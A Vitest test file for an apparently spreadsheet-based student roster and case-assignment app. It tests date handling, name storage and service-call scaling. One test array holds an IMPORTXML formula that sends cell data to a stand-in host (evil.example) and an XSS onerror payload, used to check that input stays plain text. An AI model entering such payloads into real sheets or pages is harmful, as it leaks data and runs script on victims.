import { describe, expect, test } from 'vitest';
import type { Input } from '../../src/contract/contract';
import type { Host } from '../host/host';
import { afterSetUp, ask, everything, keyOf, sheetOf, shown, smallRoster } from './installed';

const ANA = '2000001';
const ZONES = ['Pacific/Pago_Pago', 'America/Chicago', 'Pacific/Auckland'];

const leave = (host: Host, over: Partial<Input<'exit'>> = {}) =>
  ask(host, 'exit', {
    studentId: ANA,
    line: '',
    lastDay: '12/18/2026',
    reason: '',
    endAssignment: true,
    seen: ask(host, 'assignments', { studentId: ANA, household: false }).seen,
    acknowledged: [],
    ...over,
  });

const enroll = (host: Host, studentId: string, name: string) =>
  ask(host, 'enroll', {
    values: [
      { field: 'studentId', value: studentId },
      { field: 'name', value: name },
      { field: 'grade', value: 'K' },
      { field: 'site', value: 'Oak' },
      { field: 'start', value: '11/23/2026' },
    ],
    services: [{ service: 'Speech', provider: keyOf(host, 'Cho, Ben'), amount: '1.5' }],
    caseManager: keyOf(host, 'Cho, Ben'),
    begin: '',
    reason: '',
    acknowledged: [],
  });

describe.each(ZONES)('in %s', (zone) => {
  test('an exit writes its last day as a date, and enrolling the start as one', () => {
    const host = afterSetUp(smallRoster(zone), { scriptTimeZone: 'America/New_York' });
    leave(host);
    enroll(host, '2000077', 'Gray, Gil');
    const dates = (column: number, ...rows: number[]) =>
      rows.map((row) => Object.prototype.toString.call(sheetOf(host, 'Roster').value(row, column)));
    expect(new Set([...dates(7, 2, 3, 7), ...dates(6, 8, 2)]).size).toBe(1);
    expect(ask(host, 'assignments', { studentId: '2000077', household: false }).enrollments[0]).toMatchObject(
      {
        start: '2026-11-23',
        provider: '',
      },
    );
    expect(ask(host, 'assignments', { studentId: ANA, household: false }).enrollments[0]).toMatchObject({
      end: '2026-12-18',
    });
    expect(ask(host, 'open', {})).toMatchObject({ stop: '', notices: [], problems: [] });
  });
});

const WORDS = ['=IMPORTXML("http://evil.example/"&A1,"//a")', '<img src=x onerror=alert(1)>', 'TRUE'];

test.each([...WORDS, '+1', '0012', '3/4'])(
  'a new student named %s, with that ID, is that text everywhere',
  (name) => {
    const host = afterSetUp(smallRoster());
    expect(enroll(host, name, name)).toMatchObject({ saved: true });
    expect(shown(host, 'Roster').pop()?.slice(0, 2)).toEqual([name, name]);
    expect(shown(host, 'Case assignments').filter((row) => row[1] === name && row[2] === name)).toHaveLength(
      2,
    );
    expect(everything(host).flatMap(({ formulas }) => formulas)).toEqual([]);
    // Words for an ID, where others have numbers, count and are told.
    const problems = WORDS.includes(name)
      ? [{ code: 'odd-student-id', items: [{ place: 'A8', text: name }] }]
      : [];
    expect(ask(host, 'open', {})).toMatchObject({ stop: '', notices: [], problems });
  },
);

test('the link to the roster goes to the student’s row', () => {
  const host = afterSetUp(smallRoster());
  const { enrollments } = ask(host, 'assignments', { studentId: '2000004', household: false });
  expect(ask(host, 'showRow', { line: enrollments[0]?.line ?? '' })).toEqual({ shown: true, row: 5 });
});

test('every call takes as many service calls with 200 students more as with one', () => {
  // One at least: below the last row of a roster a cell may be merged, which is asked.
  const counts = [1, 200].map((more) => {
    const sample = smallRoster();
    const [roster] = sample.sheets;
    const last = roster?.rows[4] ?? [];
    for (let i = 0; i < more; i++)
      roster?.rows.push(last.map((cell, c) => (c === 0 ? String(3_000_000 + i) : cell)));
    const host = afterSetUp(sample);
    let calls = 0;
    host.onCall(({ phase }) => {
      if (phase === 'before') calls += 1;
      return undefined;
    });
    const counted = (work: () => unknown): number => {
      calls = 0;
      work();
      return calls;
    };
    const cho = keyOf(host, 'Cho, Ben');
    const seen = ask(host, 'assignments', { studentId: ANA, household: false }).seen;
    return [
      counted(() => ask(host, 'findStudents', { text: 'a' })),
      counted(() => ask(host, 'assignments', { studentId: ANA, household: true })),
      counted(() => ask(host, 'myCaseload', { person: cho })),
      counted(() => ask(host, 'attention', {})),
      counted(() => ask(host, 'record', { studentId: ANA })),
      counted(() => leave(host, { seen })),
      counted(() => ask(host, 'rebuildAssignments', {})),
    ];
  });
  expect(counts[1]).toEqual(counts[0]);
  expect(Math.max(...(counts[0] ?? []))).toBeLessThanOrEqual(100);
});
